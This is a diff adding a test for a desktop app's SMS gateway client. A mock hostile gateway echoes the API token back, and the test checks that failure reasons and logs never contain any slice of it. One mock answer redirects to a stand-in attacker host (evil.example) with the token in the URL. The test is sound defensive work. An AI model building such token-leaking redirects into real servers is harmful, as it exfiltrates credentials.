@@ -16,6 +16,8 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { createEngine } from '../../electron/engine/engine.ts';
 import { createMemorySecrets } from '../../electron/engine/secrets/index.ts';
 import { REDACTED } from '../../electron/engine/redact.ts';
+import { createGatewayClient } from '../../electron/engine/gateway/client.ts';
+import { defaultSettings, type SettingKey } from '../../shared/settings.ts';
 import { makeList, numbers, tempDir, waitFor } from '../helpers/engine.ts';
 import { filesUnder, printSummary, recordStats, secretTraces } from './support.ts';
 
@@ -140,6 +142,38 @@ describe('a hostile gateway echoes the token in every answer', () => {
       expect(hits.join('\n')).not.toMatch(/clean\.csv/);
     } finally {
       fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+
+  it('answers that would pause a campaign (redirect, refused batch, refused token): their reasons and log lines hold no slice of the token', async () => {
+    const answers: Array<(res: http.ServerResponse, echo: string, tok: string) => void> = [
+      (res, echo, tok) => { res.writeHead(302, `Moved for ${echo}`, { location: `https://evil.example/?t=${encodeURIComponent(tok)}&b=${Buffer.from(echo).toString('base64')}` }); res.end(); },
+      (res, _echo, tok) => { res.writeHead(400, { 'content-type': 'application/json' }); res.end(JSON.stringify({ status_code: 400, message: `${'z'.repeat(280)}${tok} is not a sender ID` })); },
+      (res, echo) => { res.writeHead(200, { 'content-type': 'application/json' }); res.end(JSON.stringify({ status_code: 403, error: { message: `Forbidden: ${echo}` } })); },
+      (res, _echo, tok) => { res.writeHead(200, { 'content-type': 'application/json' }); res.end(JSON.stringify({ status_code: 200, reference_id: ` ${tok} `, recipients_processed: 1 })); },
+    ];
+    let i = 0;
+    const server = http.createServer((req, res) => {
+      req.resume();
+      req.on('end', () => { const echo = String(req.headers.authorization); answers[i++ % answers.length]!(res, echo, echo.replace(/^Bearer /, '')); });
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+    const lines: string[] = [];
+    try {
+      const s = defaultSettings();
+      const client = createGatewayClient({ settings: { get: (k: SettingKey) => s[k] }, token: async () => TOKEN, baseUrl: () => `http://127.0.0.1:${(server.address() as { port: number }).port}`, log: (l) => lines.push(l) });
+      const outs = [];
+      for (let n = 0; n < answers.length; n++) outs.push(await client.send({ from: 'ACME', to: ['2348031234567'], text: 'x', clientRef: `c${n}` }));
+      expect(outs.map((o) => o.kind)).toEqual(['failed', 'failed', 'auth', 'accepted']);
+      expect(outs[0]).toMatchObject({ reason: expect.stringContaining(`redirect (HTTP 302 Moved for Bearer ${REDACTED})`) });
+      expect(outs[1]).toMatchObject({ reason: expect.stringContaining(REDACTED) });
+      expect(outs[3]).toMatchObject({ gatewayRef: 'c3', refusedRef: true });
+      const slices = Array.from({ length: TOKEN.length - 11 }, (_, k) => TOKEN.slice(k, k + 12));
+      const text = JSON.stringify(outs) + lines.join('\n');
+      expect(slices.filter((x) => text.includes(x))).toEqual([]);
+      expect(lines.join('\n')).toMatch(/reference_id in the answer to batch c3 contains the API token/);
+    } finally {
+      await new Promise((r) => server.close(r));
     }
   });
 
